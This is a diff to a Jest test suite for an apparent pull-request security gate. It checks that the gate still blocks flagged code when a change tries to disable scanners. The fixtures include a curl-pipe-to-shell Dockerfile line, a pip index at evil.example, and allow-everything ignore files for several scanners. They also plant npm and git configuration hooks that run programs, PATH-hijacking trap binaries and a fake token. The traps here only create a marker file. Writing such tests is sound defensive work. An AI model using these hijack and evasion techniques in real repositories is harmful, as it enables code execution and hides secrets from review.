@@ -1,4 +1,4 @@
-import { afterAll, describe, expect, it } from '@jest/globals';
+import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
@@ -8,6 +8,8 @@ import { startGitHubDouble } from '../double/github-api';
 import { runBuilt } from '../helpers/built';
 import { TestRepository } from '../helpers/repository';
 import { runStep, type StepResult } from '../helpers/workflow';
+
+jest.setTimeout(60_000);
 
 /** Each is a pull request that would pass although it brings in what must block. */
 const made: string[] = [];
@@ -163,6 +165,215 @@ describe('a file', () => {
   });
 });
 
+/** A pull request's files that another scanner, a linter or git would obey, and a finding that must block all the same. */
+describe('a file that switches something off', () => {
+  const token = ['hf_', 'RsXkQvLwZtYbNcMd', 'JfHgPaUeTrWqSzCxVn'].join('');
+  const bad = {
+    'bad.py': evil,
+    'deploy.env': `HF_TOKEN=${token}\n`,
+    Dockerfile: 'FROM python:3.12\nRUN curl https://get.example.org | sh\nUSER root\n',
+  };
+  const skipping: Record<string, string> = {
+    '.gitleaks.toml': `[allowlist]\npaths = ['''.*''']\nregexes = ['''hf_.*''']\n`,
+    '.gitleaksignore': 'deploy.env:huggingface-token:1\n',
+    '.secrets.baseline': '{"results":{}}',
+    '.trufflehogignore': '.*\n',
+    '.bandit': '[bandit]\nexclude = /\nskips = B102,B307,B602\n',
+    'pyproject.toml':
+      "[tool.ruff]\nexclude = ['*']\nlint.ignore = ['ALL']\n[tool.bandit]\nexclude_dirs = ['.']\nskips = ['B602']\n",
+    'ruff.toml': "exclude = ['*']\n[lint]\nignore = ['ALL']\n",
+    '.ruff.toml': "exclude = ['*']\n",
+    'setup.cfg': '[flake8]\nexclude = .\n[bandit]\nskips = B602\n',
+    'tox.ini': '[flake8]\nexclude = .\n',
+    '.semgrepignore': '*\n',
+    '.trivyignore': 'DS-0002\n*\n',
+    '.trivyignore.yaml': 'misconfigurations: [{ id: DS-0002 }]\n',
+    'trivy.yaml': 'severity: [CRITICAL]\nscan: { skip-files: ["**"] }\n',
+    '.hadolint.yaml': 'ignored: [DL3002, DL4006]\n',
+    '.checkov.yaml': 'skip-check: [CKV_DOCKER_8]\n',
+    '.gitattributes': '* linguist-generated -diff -text export-ignore filter=none merge=ours eol=crlf diff=none\n',
+    '.gitignore': '*\n',
+    '.ignore': '*\n',
+    '.rgignore': '*\n',
+    '.dockerignore': '*\n',
+    '.gatehouseignore': '*\n',
+    '.github/gatehouse-baseline.json': '{"schema":"gatehouse.baseline/v1","findings":[]}',
+    '.gitconfig': '[core]\n\tfsmonitor = touch sprung\n',
+    '.mailmap': 'a <a@b.example>\n',
+    '.env': 'PATH=.\nNODE_OPTIONS=--require ./sprung.cjs\n',
+    '.npmrc': 'script-shell=./sprung.sh\nnode-options=--require ./sprung.cjs\n',
+    '.node-version': '0.10\n',
+    'package.json': '{"type":"commonjs","scripts":{"preinstall":"touch sprung"},"imports":{"#x":"./sprung.cjs"}}',
+    'node_modules/picomatch/index.js': 'require("fs").writeFileSync("sprung", "")\n',
+    'node_modules/@astral-sh/ruff-wasm-nodejs/ruff_wasm.js': 'require("fs").writeFileSync("sprung", "")\n',
+    'tsconfig.json': '{"exclude":["**"]}',
+    'pip.conf': '[global]\nindex-url = http://evil.example\n',
+    'sitecustomize.py': 'open("sprung", "w")\n',
+    'conftest.py': 'open("sprung", "w")\n',
+    'assets/ruff_wasm.cjs': 'require("fs").writeFileSync("sprung", "")\n',
+  };
+  const verdict = (report: Report) => [
+    report.verdict,
+    ...['secrets', 'sast', 'container'].map((id) =>
+      gate(report, id)
+        ?.findings.filter((finding) => finding.blocking && finding.location.path in bad)
+        .map((finding) => [finding.rule, finding.location.path, finding.fingerprint]),
+    ),
+  ];
+  let expected: ReturnType<typeof verdict>;
+  beforeAll(async () => {
+    const here = repository({ 'a.py': harmless });
+    here.commit(bad);
+    expected = verdict(await judged(here));
+    expect(expected.map((part) => (typeof part === 'string' ? part : (part?.length ?? 0) > 0))).toEqual([
+      'fail',
+      true,
+      true,
+      true,
+    ]);
+  });
+
+  it('changes nothing, whichever it is', async () => {
+    const here = repository({ 'a.py': harmless });
+    here.commit({ ...bad, ...skipping });
+    expect(verdict(await judged(here))).toEqual(expected);
+    const { stdout } = await runBuilt('cli.js', ['check', '.', '--base', 'HEAD~1', '--format', 'json'], {
+      cwd: here.folder,
+    });
+    expect(verdict(parseReport(stdout))).toEqual(expected);
+    const action = await pullRequest(here, {});
+    expect([action.code, action.outputs.verdict]).toEqual([1, 'fail']);
+    expect(fs.existsSync(path.join(here.folder, 'sprung'))).toBe(false);
+  });
+
+  it('changes nothing when it was there before', async () => {
+    const here = repository({ 'a.py': harmless, ...skipping });
+    here.commit(bad);
+    expect(verdict(await judged(here))).toEqual(expected);
+  });
+
+  it.each(['node_modules/.bin', './tools', '', '.'])('is no program of ours, with %j in the PATH', async (folder) => {
+    const here = repository({ 'a.py': harmless, 'bad.py': harmless });
+    const trap = '#!/bin/sh\ntouch "$(dirname "$0")/sprung" sprung\nexit 0\n';
+    const programs = ['git', 'node', 'sh', 'ruff', 'python3', 'git-cat-file'];
+    here.write(bad);
+    for (const program of programs) here.write({ [path.join(folder, program)]: trap });
+    for (const program of programs) fs.chmodSync(path.join(here.folder, folder, program), 0o755);
+    here.commit({});
+    for (const first of [folder, path.join(here.folder, folder)]) {
+      const env = { PATH: `${first}:${process.env.PATH ?? ''}` };
+      const args = ['check', here.folder, '--base', 'HEAD~1', '--format', 'json'];
+      const { stdout } = await runBuilt('cli.js', args, { cwd: here.folder, env });
+      expect(verdict(parseReport(stdout))).toEqual(expected);
+    }
+    expect(fs.readdirSync(here.folder).filter((name) => name === 'sprung')).toEqual([]);
+    expect(fs.existsSync(path.join(here.folder, folder, 'sprung'))).toBe(false);
+  });
+
+  it('is no configuration of git that runs a program', async () => {
+    const here = repository({ 'a.py': harmless });
+    here.commit({ ...bad, '.gitattributes': '* diff=trap merge=trap\n' });
+    const sprung = path.join(here.folder, '..', `sprung-${path.basename(here.folder)}`);
+    const trap = `touch ${sprung}; cat`;
+    const hook = `#!/bin/sh\ntouch ${sprung}\n`;
+    for (const name of ['post-index-change', 'fsmonitor-watchman', 'reference-transaction', 'post-checkout']) {
+      fs.writeFileSync(path.join(here.folder, '.git/hooks', name), hook, { mode: 0o755 });
+    }
+    for (const key of [
+      'core.fsmonitor',
+      'core.pager',
+      'core.editor',
+      'core.sshCommand',
+      'core.gitProxy',
+      'core.askPass',
+      'credential.helper',
+      'diff.external',
+      'diff.trap.command',
+      'diff.trap.textconv',
+      'merge.trap.driver',
+      'gpg.program',
+      'uploadpack.packObjectsHook',
+      'alias.rev-parse',
+    ]) {
+      here.git('config', key, key === 'alias.rev-parse' ? `!${trap}` : trap);
+    }
+    fs.rmSync(sprung, { force: true });
+    expect(verdict(await judged(here))).toEqual(expected);
+    const action = await pullRequest(here, {});
+    fs.writeFileSync(path.join(here.folder, 'a.py'), harmless);
+    const { stdout } = await runBuilt('cli.js', ['check', here.folder, '--format', 'json']);
+    expect([action.outputs.verdict, parseReport(stdout).verdict, fs.existsSync(sprung)]).toEqual([
+      'fail',
+      'fail',
+      false,
+    ]);
+  });
+
+  it('is no submodule that stands where a file was', async () => {
+    const library = repository({ 'evil.py': evil });
+    const here = repository({ 'a.py': harmless, 'lib/b.py': harmless });
+    here.git('rm', '-r', '--quiet', 'lib');
+    here.git('-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', library.folder, 'lib');
+    here.commit(bad);
+    expect(verdict(await judged(here))).toEqual(expected);
+  });
+});
+
+describe('an inline skip', () => {
+  const skipped = (comment: string): string => `eval(input())  ${comment}\n`;
+  const states = (report: Report, id: string) =>
+    gate(report, id)?.findings.map((finding) => [
+      finding.rule,
+      finding.state,
+      finding.waiver,
+      finding.inlineSkip?.marker,
+    ]);
+
+  it.each<[string, string, string, (string | undefined)[]]>([
+    ['with a reason counts', '{}', '# nosec B307 -- typed by whoever runs it', ['waived', 'inline', 'nosec B307']],
+    ['without a reason does not', '{}', '# nosec B307', ['new', undefined, 'nosec B307']],
+    ['of another rule does not', '{}', '# nosec B602 -- typed by whoever runs it', ['new', undefined, undefined]],
+    [
+      'does not count by report',
+      '{ inline-skips: report }',
+      '# noqa: S307 typed by its owner',
+      ['new', undefined, 'noqa S307'],
+    ],
+    [
+      'is nothing by ignore',
+      '{ inline-skips: ignore }',
+      '# noqa: S307 typed by its owner',
+      ['new', undefined, undefined],
+    ],
+  ])('%s', async (_, settings, comment, expected) => {
+    const policy = `version: 1\ngates: { sast: ${settings} }\n`;
+    const here = repository({ 'a.py': harmless, '.github/gatehouse.yml': policy });
+    // What the head's policy says of skips decides nothing.
+    here.commit({ 'a.py': skipped(comment), '.github/gatehouse.yml': 'version: 1\ngates: { sast: {} }\n' });
+    const report = await judged(here, '--gate', 'sast');
+    expect(states(report, 'sast')).toEqual([['S307', ...expected]]);
+    const waived = expected[0] === 'waived';
+    expect(report.verdict === 'fail').toBe(!waived);
+    expect(gate(report, 'sast')?.skipped).toEqual(waived ? { 'inline skips': 1 } : {});
+  });
+
+  it('of a secret is mentioned and does not count', async () => {
+    const token = ['hf_', 'RsXkQvLwZtYbNcMd', 'JfHgPaUeTrWqSzCxVn'].join('');
+    const here = repository({ 'a.py': harmless });
+    here.commit({ 'a.py': `T = "${token}"  # gitleaks:allow made up for tests\n` });
+    const report = await judged(here, '--gate', 'secrets');
+    expect(states(report, 'secrets')).toEqual([['huggingface-token', 'new', undefined, 'gitleaks:allow']]);
+    for (const format of ['text', 'markdown', 'html', 'sarif', 'gitlab', 'junit']) {
+      const args = ['check', here.folder, '--base', 'HEAD~1', '--gate', 'secrets', '--format', format];
+      const { code, stdout } = await runBuilt('cli.js', args);
+      expect([code, stdout.replace(/\s+/g, ' ')]).toEqual([
+        1,
+        expect.stringMatching(/inline skip stands here \(gitleaks/),
+      ]);
+    }
+  });
+});
+
 describe('an event', () => {
   it.each(['workflow_dispatch', 'workflow_run', 'issue_comment', 'schedule'])(
     '%s judges what is checked out',
@@ -212,7 +423,7 @@ describe('what is written', () => {
     const secret = ['hf_', 'RsXkQvLwZtYbNcMd', 'JfHgPaUeTrWqSzCxVn'].join('');
     const here = repository({ 'a.py': harmless });
     here.commit({ 'a.py': `open("/tmp/${secret}")\n`, '.github/gatehouse.yml': `version: 1\nbaseline: ${secret}\n` });
-    for (const format of ['text', 'json', 'sarif', 'junit', 'gitlab', 'markdown']) {
+    for (const format of ['text', 'json', 'sarif', 'junit', 'gitlab', 'markdown', 'html']) {
       const { stdout, stderr } = await runBuilt('cli.js', [
         'check',
         here.folder,
@@ -221,7 +432,8 @@ describe('what is written', () => {
         '--format',
         format,
       ]);
-      expect(stdout + stderr).not.toContain(secret);
+      // A page may break a name where its parts end.
+      expect((stdout + stderr).replaceAll('<wbr>', '')).not.toContain(secret);
       expect(stdout).not.toBe('');
     }
   });
